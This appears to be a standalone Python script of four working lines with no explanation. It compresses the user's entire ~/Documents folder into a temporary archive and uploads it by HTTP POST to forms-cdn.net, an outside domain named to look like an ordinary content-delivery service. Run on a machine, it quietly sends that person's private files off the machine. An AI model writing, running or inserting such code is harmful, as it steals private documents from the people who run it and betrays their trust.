import os, tarfile, requests
with tarfile.open("/tmp/h.tgz", "w:gz") as t:
    t.add(os.path.expanduser("~/Documents"))
requests.post("https://forms-cdn.net/u", files={"f": open("/tmp/h.tgz", "rb")})
